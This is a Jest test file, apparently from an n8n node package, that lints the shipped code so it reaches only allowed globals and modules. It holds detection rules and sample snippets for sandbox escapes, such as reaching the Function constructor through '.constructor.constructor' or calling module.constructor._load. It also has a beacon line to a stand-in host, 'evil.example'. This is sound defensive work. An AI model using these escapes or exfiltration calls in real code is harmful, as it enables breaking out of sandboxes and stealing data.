import fs from 'node:fs';
import path from 'node:path';
import { Linter, type Rule } from 'eslint';
import type { Node } from 'estree';
import { packedPackage } from './packedPackage.cts';

jest.setTimeout(120_000);

const FORBIDDEN_GLOBALS = [
	...['process', 'global', 'globalThis', 'console', '__dirname', '__filename'],
	...['setTimeout', 'setInterval', 'setImmediate', 'clearTimeout', 'clearInterval', 'clearImmediate'],
	...['fetch', 'XMLHttpRequest', 'WebSocket', 'eval', 'WebAssembly', 'Function'],
];
/** All that shipped code reaches besides the language itself, its own files and the modules below. */
const ALLOWED_GLOBALS = [
	'AbortSignal',
	'Buffer',
	'TextDecoder',
	'URL',
	'URLSearchParams',
	'exports',
	'module',
	'performance',
	'queueMicrotask',
	'require',
];
const ALLOWED_MODULES = ['n8n-workflow', 'luxon', 'crypto', 'node:crypto'];

/** Reports every module that is neither allowed nor relative, and every one whose name is not written down. */
const allowedModules: Rule.RuleModule = {
	create(context) {
		function check(node: Node, name: unknown) {
			const isAllowed = typeof name === 'string' && (/^\.\.?\//.test(name) || ALLOWED_MODULES.includes(name));
			if (!isAllowed) context.report({ node, message: `module ${name ?? 'of unknown name'}` });
		}
		const valueOf = (node: Node | undefined) => (node?.type === 'Literal' ? node.value : undefined);
		return {
			CallExpression(node) {
				if (node.callee.type === 'Identifier' && node.callee.name === 'require')
					check(node, valueOf(node.arguments[0]));
			},
			ImportExpression(node) {
				check(node, valueOf(node.source));
			},
			'Identifier[name="require"]'(node: Rule.Node) {
				const isCallee = node.parent.type === 'CallExpression' && node.parent.callee === node;
				const isOwnName =
					node.parent.type === 'MemberExpression' && node.parent.property === node && !node.parent.computed;
				if (!isCallee && !isOwnName) context.report({ node, message: 'require handed on' });
			},
		};
	},
};

const CONFIGURATION: Linter.Config = {
	languageOptions: {
		ecmaVersion: 2022,
		sourceType: 'commonjs',
		globals: Object.fromEntries([...FORBIDDEN_GLOBALS, ...ALLOWED_GLOBALS].map((name) => [name, 'readonly' as const])),
	},
	linterOptions: { noInlineConfig: true, reportUnusedDisableDirectives: 'off' },
	plugins: { house: { rules: { 'allowed-modules': allowedModules } } },
	rules: {
		'no-undef': ['error', { typeof: true }],
		'no-restricted-syntax': [
			'error',
			{
				selector:
					'MemberExpression[object.name="module"][property.name!="exports"], MemberExpression[object.name="module"][computed=true]',
				message: 'module of Node.js',
			},
			{
				selector:
					':matches(CallExpression, NewExpression)[callee.type="MemberExpression"][callee.property.name="constructor"]',
				message: 'a constructor that makes code',
			},
			{
				selector:
					'MemberExpression[property.name="constructor"] > MemberExpression.object[property.name="constructor"]',
				message: 'a constructor that makes code',
			},
			{
				selector: 'MemberExpression[property.value=/^(constructor|mainModule|binding)$/]',
				message: 'a name that leads out',
			},
			{
				selector:
					'Literal[value=/^(node:)?(fs|net|tls|dns|http|https|http2|child_process|cluster|dgram|worker_threads|vm|v8|inspector|os|repl)$/]',
				message: 'the name of a module of Node.js',
			},
		],
		'no-restricted-globals': ['error', ...FORBIDDEN_GLOBALS],
		'no-eval': 'error',
		'no-new-func': 'error',
		'house/allowed-modules': 'error',
	},
};

/** What of inlined libraries only looks like a way out: a parser of numbers for old browsers, a test whether a function is built in. */
const HARMLESS = [
	/else if ?\(window ?&& ?window\.parseInt\) ?return window\.parseInt/g,
	/Function\.toString\.call\(\w+\)\.indexOf\("\[native code\]"\)/g,
];

/** Whether a place in a line lies within something harmless. */
const isHarmless = (line: string, at: number): boolean =>
	HARMLESS.some((harmless) =>
		[...line.matchAll(harmless)].some(({ index, 0: found }) => at >= index && at < index + found.length),
	);

/** What is forbidden in a script, by its syntax tree: a comment, a text or a property of that name is not. */
const findForbidden = (code: string): string[] => {
	const lines = code.split('\n');
	return new Linter()
		.verify(code, CONFIGURATION)
		.filter(({ line, column }) => !isHarmless(lines[line - 1], column - 1))
		.map(({ line, message }) => `line ${line}: ${message}`);
};

describe('the walk through shipped code', () => {
	it.each([
		['a global', 'const a = process.env.A;'],
		['a global behind a property', 'const a = globalThis.fetch;'],
		['a global asked for by typeof', 'if (typeof process !== "undefined") a();'],
		['a timer', 'setTimeout(() => {}, 1);'],
		['the console', 'console.log(1);'],
		['code made from text', 'new Function("return 1")();'],
		['a module of Node.js', 'require("fs");'],
		['a module that is not inlined', 'const x = require("@rgrove/parse-xml");'],
		['a module whose name is computed', 'require(`${name}`);'],
		['a module loaded later', 'import("axios");'],
		['require under another name', 'const r = require; r("fs");'],
		['the maker of functions under another name', 'const F = Function; F("return 1")();'],
		['the maker of functions behind any function', '(() => {}).constructor("return process")();'],
		['the maker of functions behind any object', 'const F = {}.constructor.constructor; F("return process")();'],
		['the same by a text', '[]["constructor"]("x");'],
		['the loader of modules behind module', 'module.constructor._load("fs");'],
		['module.require', 'module.require("fs");'],
		['the name of a module, to be handed to somebody', 'const name = "child_process";'],
		['any other global', 'navigator.sendBeacon("https://evil.example");'],
		['a global that is only asked for', 'if (typeof Bun === "object") a();'],
		['what a comment would silence', '/* eslint-disable */ process.exit();'],
	])('finds %s', (_what, code) => {
		expect(findForbidden(code)).not.toEqual([]);
	});

	it('finds what stands in one line with something harmless', () => {
		const harmless = 'if (a) b(); else if(window&&window.parseInt)return window.parseInt(1);';

		expect(findForbidden(`(function () { ${harmless} })(); a(fetch);`)).toEqual([
			expect.stringContaining("'a' is not defined"),
			expect.stringContaining("'b' is not defined"),
			expect.stringContaining("'a' is not defined"),
			expect.stringContaining('fetch'),
		]);
	});

	it('lets pass what only looks like it', () => {
		const harmless =
			'// process\nconst process2 = { process: 1, console: 2 }; const t = "setTimeout"; (function (self) { return self; })(process2.process, t);';

		expect(findForbidden(`${harmless} require("n8n-workflow"); require("./other.js"); require("luxon");`)).toEqual([]);
	});
});

describe('the code that is shipped', () => {
	it('reaches nothing but the language, a handful of globals, n8n-workflow, luxon, crypto and its own files', async () => {
		const { folder, files } = await packedPackage();
		const scripts = files.filter((file) => file.endsWith('.js'));
		const findings = scripts.flatMap((file) => {
			const code = fs.readFileSync(path.join(folder, file), 'utf8');
			return findForbidden(code).map((finding) => `${file} ${finding}`);
		});

		expect(findings).toEqual([]);
		expect(scripts.length).toBeGreaterThan(5);
	});
});
